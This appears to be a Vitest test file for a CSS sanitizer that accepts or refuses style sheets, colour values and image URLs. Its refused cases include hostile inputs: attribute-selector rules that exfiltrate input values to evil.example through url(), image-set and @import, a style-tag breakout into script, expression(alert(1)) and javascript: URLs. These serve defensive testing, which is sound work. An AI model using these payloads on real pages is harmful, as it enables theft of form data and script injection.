import { expect, test } from 'vitest';
import { isPaint, isPicture, refusedIn } from '../src/style-sheet.ts';

test.each([
  'body { color: #123; background: linear-gradient(90deg, red, blue) }',
  '.authing-guard-layout > main { position: relative; content: "→" }',
  '@media (max-width: 40rem) { :root { --radius: 0 } }',
  'a[href^="/"] { text-decoration: underline }',
  '.source(x) { }',
  '',
])('%j may stand in a page', (css) => {
  expect(refusedIn(css)).toBeUndefined();
});

test.each([
  'input[value^=a] { background: url(https://evil.example/a) }',
  'input[value^=a] { background: URL ( "//evil.example/a" ) }',
  'input[value^=a] { background: u\\72l(//evil.example/a) }',
  'input[value^=a] { background: -webkit-image-set("//evil.example/a" 1x) }',
  'input[value^=a] { background: image-set("//evil.example/a" 1x) }',
  'input[value^=a] { background: cross-fade(url(a), url(b)) }',
  'input[value^=a] { background: src("//evil.example/a") }',
  '@import "//evil.example/a.css";',
  '@IMPORT "//evil.example/a.css";',
  '@font-face { font-family: x; src: local(x) }',
  'p { width: expression(alert(1)) }',
  'p { behavior: none }',
  'p { -moz-binding: none }',
  '</style><script>alert(1)</script>',
  '<!--',
])('%j may not', (css) => {
  expect(refusedIn(css)).toBeDefined();
});

test.each([
  ['#fff', true],
  ['linear-gradient(120deg, #fff 0%, rgb(1, 2, 3) 100%)', true],
  ['url(https://evil.example)', false],
  ['red; } input { color: red', false],
  ['red}', false],
])('%j is a paint: %s', (text, expected) => {
  expect(isPaint(text)).toBe(expected);
});

test.each([
  ['https://cdn.example/a.png', true],
  ['/logo.svg', true],
  ['data:image/png;base64,AAAA', true],
  ['http://cdn.example/a.png', false],
  ['//cdn.example/a.png', false],
  ['https://cdn.example/a.png") , url("https://evil.example', false],
  ['data:image/svg+xml;base64,AAAA', false],
  ['javascript:alert(1)', false],
])('%j is a picture: %s', (text, expected) => {
  expect(isPicture(text)).toBe(expected);
});
